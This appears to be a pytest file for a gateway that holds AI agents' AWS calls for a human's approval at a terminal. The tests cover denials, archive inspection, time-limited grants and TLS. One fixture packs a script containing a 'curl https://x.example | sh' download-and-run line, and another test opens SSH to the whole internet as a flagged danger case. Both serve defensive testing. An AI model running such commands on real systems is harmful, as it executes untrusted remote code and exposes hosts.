"""A person at a real terminal, and listeners of the gateway's own with TLS."""

from __future__ import annotations

import hashlib
import json
import os
import pty
import select
import threading

import boto3
import pytest
import trustme
from botocore.config import Config
from botocore.exceptions import ClientError

from scripts.embedded.aws import ACCOUNTS, REGION
from tests.content.test_archive import packed
from tests.kit.approvals.approver import Person
from tests.kit.gateway import SECRET, TOKEN, TRIO_GATE, running

QUESTION = "approve this call? [y/n/d/s/q] "
UNREAD = "approve this call? [y/n/u/d/s/q] "
ASKED = "approve this call? [y/n/g/d/s/q] "
COUNTED = ["would have covered 1 of 2 recorded calls of the last day", "lets go none of the other calls that wait"]
WIDTH = 100
PATIENCE = 30
"""Seconds that a terminal may take to show something."""


@pytest.fixture(scope="module")
def gate(embedded_aws, tmp_path_factory):
    with running(tmp_path_factory.mktemp("terminal"), embedded_aws) as gateway:
        yield gateway


class Terminal:
    """A program at a terminal of its own, 100 columns wide."""

    def __init__(self, *words: str, token: str = TOKEN) -> None:
        self.said = ""
        self.child, self.end = pty.fork()
        if self.child == 0:
            os.environ |= {"TRIO_GATE_TOKEN": token, "TERM": "xterm", "COLUMNS": str(WIDTH)}
            os.execv(words[0], words)

    def until(self, *texts: str) -> None:
        """Wait until each of these came after the one before, and forget what came until then."""
        for text in texts:
            while text not in self.said:
                assert select.select([self.end], [], [], PATIENCE)[0], (text, self.said)
                self.said += os.read(self.end, 4096).decode()
            self.said = self.said.partition(text)[2]

    def type(self, text: str) -> None:
        os.write(self.end, text.encode())

    def wait(self) -> int:
        status = os.waitstatus_to_exitcode(os.waitpid(self.child, 0)[1])
        os.close(self.end)
        return status


class Caller(threading.Thread):
    """An agent's call in a thread of its own; `said` is the refusal that it got, None without one."""

    def __init__(self, call, **params) -> None:
        super().__init__()
        self.call, self.params, self.said = call, params, None
        self.start()

    def run(self) -> None:
        try:
            self.call(**self.params)
        except ClientError as error:
            self.said = str(error)


def put(gate, key: str) -> Caller:
    return Caller(gate.client("s3", "prod").put_object, Bucket="prod-data", Key=key, Body=b"x")


@pytest.mark.parametrize(
    ("key", "typed", "ends"),
    [("typed-yes", "y because", "answered"), ("typed-no", "n because", "refused"), ("typed-no-2", "n\nbecause", "refused")],
)
def test_a_person_types_the_answer(gate, key, typed, ends):
    caller = put(gate, key)
    terminal = Terminal(*TRIO_GATE, *gate.approver("--once"))
    terminal.until(" prod ", f"FACT  Write {key} to prod-data", "s3:PutObject", f"FACT  Write {key} to prod-data", "1 of 1, ")
    terminal.until(" left: ", UNREAD)
    terminal.type("what\n")
    terminal.until("y: yes, n: no, u: yes, although", UNREAD)
    terminal.type("y\n")
    terminal.until("unread: the upload body. d shows it; u approves without", UNREAD)
    terminal.type("d\n")
    terminal.until("--- body (streamed)", QUESTION)
    terminal.type(f"{typed}\n")
    terminal.until(f"{'approved' if ends == 'answered' else 'denied'} by you: prod: Write {key} to prod-data")
    assert terminal.wait() == 0
    caller.join()
    assert (caller.said is not None, "because" in (caller.said or "")) == (ends == "refused", ends == "refused")
    record = next(row for row in reversed(gate.records()) if row["action"] == "PutObject")
    assert record["outcome"]["end"] == ends
    assert [(who["person"], who["reason"]) for who in record["approvers"]] == [("alice", "because")]
    vote = next(row["act"] for row in reversed(gate.rows()) if row["kind"] == "vote")
    assert (vote["read"], vote.get("unread")) == (["upload body"], None)


def test_a_person_reads_an_archive_file_by_file(gate):
    code = packed({"index.py": "import os\n" * 1000, "logo.png": b"\0", "run.sh": "curl https://x.example | sh\n"})
    caller = Caller(gate.client("s3", "prod").put_object, Bucket="prod-data", Key="code.zip", Body=code)
    terminal = Terminal(*TRIO_GATE, *gate.approver("--once"))
    terminal.until(UNREAD)
    terminal.type("d\n")
    terminal.until("1  index.py, 10000 bytes", "2  logo.png, 1 bytes (binary", "3  run.sh, 28 bytes", "(d 1 shows one", UNREAD)
    for typed, *then in (
        ("d 4", "there is no such file"),
        ("d 3", "--- run.sh (all of it)", "curl", " https://x.example "),
        ("y", "unread: the upload body. d shows it"),
        ("d 1", "--- index.py (all of it)", "import", "approve this call? "),
    ):
        terminal.type(f"{typed}\n")
        terminal.until(*then, "approve this call? ")
    terminal.type("y\n")
    terminal.until("approved by you")
    assert terminal.wait() == 0
    caller.join()
    vote = next(row["act"] for row in reversed(gate.rows()) if row["kind"] == "vote")
    assert (vote["read"], vote.get("unread")) == (["upload body"], None)


def test_the_dangerous_are_first_and_what_others_decide_comes_above_the_line_that_one_types(gate):
    first = put(gate, "call-1")
    prompts = Person(gate)
    one = prompts.until(lambda prompt: "call-1" in prompt["sentence"])["id"]
    opens = {"IpProtocol": "tcp", "FromPort": 22, "ToPort": 22, "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}
    second = Caller(gate.client("ec2", "prod").authorize_security_group_ingress, GroupId="sg-0123", IpPermissions=[opens])
    prompts.until(lambda prompt: prompt["level"] == "danger")
    terminal = Terminal(*TRIO_GATE, *gate.approver())
    terminal.until("DANGER  Open tcp/22", "DANGER  Open tcp/22", "1 of 2, ", QUESTION)
    terminal.type("s\n")
    terminal.until("Write call-1 to prod-data", "2 of 2, ", UNREAD)
    terminal.type("s\n")
    terminal.until("DANGER  Open tcp/22", "1 of 2, ", QUESTION)
    terminal.type("n not to the wor")
    terminal.until("n not to the wor")
    assert gate.gate(*gate.approver(one, "--yes", "--reason", "seen")).returncode == 0
    terminal.until(
        "approved by alice (seen): prod: Write call-1 to prod-data",
        "answered 200",
        "DANGER  Open tcp/22",
        "1 of 1, ",
        f"{QUESTION}n not to the wor",
    )
    first.join()
    terminal.type("ld\n")
    terminal.until("denied by you: prod: Open tcp/22")
    second.join()
    assert (first.said, "not to the world" in second.said) == (None, True)
    third = put(gate, "call-3")
    terminal.until("Write call-3 to prod-data", UNREAD)
    terminal.type("q\n")
    assert terminal.wait() == 0
    assert gate.gate(*gate.approver(*prompts.state().prompts, "--deny", "no")).returncode == 0
    third.join()


def test_a_person_looks_into_a_call_and_grants_more_of_them(embedded_aws, tmp_path):
    token = "tg_carol-0123456789abcdef0123456789abcdef"
    extra = f'person "carol" {{\n token_sha256 = "{hashlib.sha256(token.encode()).hexdigest()}"\n may_grant = true\n}}\n'
    extra += 'approver "human" "carol" {\n people = [person.carol]\n}\n'
    rules = 'rule "asked" { action = "approve" approvers = [human.carol] }\n'
    with running(tmp_path, embedded_aws, extra=extra, rules=rules) as gateway:
        secrets = gateway.client("secretsmanager", "prod")
        for name in ("old-1", "new-0"):
            caller = Caller(secrets.create_secret, Name=name, SecretString="something")
            assert Person(gateway, token).answer()
            caller.join()
        caller = Caller(secrets.create_secret, Name="new-1", SecretString="open sesame")
        terminal = Terminal(*TRIO_GATE, *gateway.approver("--once"), token=token)
        terminal.until("PARTS NOT SHOWN: SecretString (d shows them)\r\n", ASKED)
        for answer, then in (
            ("d", ["payload", "open sesame", ASKED]),
            ("g as agreed", ["only calls equal to this one): "]),
            ("aws.params.Name.startsWith('new-') &&", ["was not done: ", "only calls equal to this one): "]),
            (
                'aws.params.Name.startsWith("new-")',
                ["lets through: all operations, whose Name begins with new-", *COUNTED, "is that meant? [y/n] "],
            ),
            ("y", ["for how many minutes? [1-480] "]),
            ("500", ["for how many minutes? [1-480] "]),
            ("5", ["for how many calls? [1-100] "]),
            ("1", ["approved by you"]),
        ):
            terminal.type(f"{answer}\n")
            terminal.until(*then)
        assert terminal.wait() == 0
        caller.join()
        secrets.create_secret(Name="new-2", SecretString="another")
        record = next(row for row in reversed(gateway.records()) if row["action"] == "CreateSecret")
        assert record["approvers"][0]["reason"].startswith("grant g")


@pytest.mark.parametrize("own", [True, False], ids=["a leaf of our CA", "files"])
def test_an_endpoint_listener_speaks_tls(embedded_aws, tmp_path, own):
    authority = trustme.CA()
    leaf = authority.issue_cert("gate.example", "localhost")
    (tmp_path / "cert.pem").write_bytes(leaf.cert_chain_pems[0].bytes())
    (tmp_path / "key.pem").write_bytes(leaf.private_key_pem.bytes())
    authority.cert_pem.write_to_path(str(tmp_path / "ca.pem"))
    how = "tls = true" if own else 'certificate = "./cert.pem"\n key = "./key.pem"'
    more = f'listener "endpoint" {{\n bind = "localhost:0"\n names = ["gate.example"]\n {how}\n }}'
    with running(tmp_path, embedded_aws, knobs=more) as gateway:
        port = gateway.doors["endpoint"].rpartition(":")[2]
        keys = {"aws_access_key_id": f"AKIA{ACCOUNTS['prod']}CI01", "aws_secret_access_key": SECRET, "region_name": REGION}
        trust = tmp_path / "state" / "ca" / "own.pem" if own else tmp_path / "ca.pem"
        url = f"https://localhost:{port}"
        sts = boto3.client("sts", endpoint_url=url, verify=str(trust), config=Config(proxies={}), **keys)
        assert sts.get_caller_identity()["Account"] == ACCOUNTS["prod"]


CAROL = "tg_carol-0123456789abcdef0123456789abcdef"
MAY_COMPARE = f"""
person "carol" {{
  token_sha256 = "{hashlib.sha256(CAROL.encode()).hexdigest()}"
  may_compare  = true
}}
approver "human" "carol" {{ people = [person.carol] }}
rule "bucket policies" {{
  match     = aws.action == "DeleteBucketPolicy"
  action    = "approve"
  approvers = [human.carol]
}}
rule "rest" {{ action = "allow" }}
"""


def test_a_person_compares_with_what_is_there_now(embedded_aws, tmp_path):
    with running(tmp_path, embedded_aws, rules=MAY_COMPARE) as gate:
        s3 = gate.client("s3", "prod")
        s3.create_bucket(Bucket="terminal-data")
        statement = {"Effect": "Allow", "Principal": "*", "Action": "s3:GetObject", "Resource": "arn:aws:s3:::terminal-data/*"}
        s3.put_bucket_policy(Bucket="terminal-data", Policy=json.dumps({"Version": "2012-10-17", "Statement": [statement]}))
        caller = Caller(s3.delete_bucket_policy, Bucket="terminal-data")
        terminal = Terminal(*TRIO_GATE, *gate.approver("--once"), token=CAROL)
        terminal.until("approve this call? [y/n/d/c/s/q] ")
        terminal.type("what\n")
        terminal.until("c: compare with what is there now, ")
        terminal.type("c\n")
        terminal.until("as of ", "by s3.GetBucketPolicy:", "Policy:", "- {", '"Action": "s3:GetObject"', "approve this call?")
        terminal.type("n keep it\n")
        assert terminal.wait() == 0
        caller.join()
        assert "keep it" in caller.said
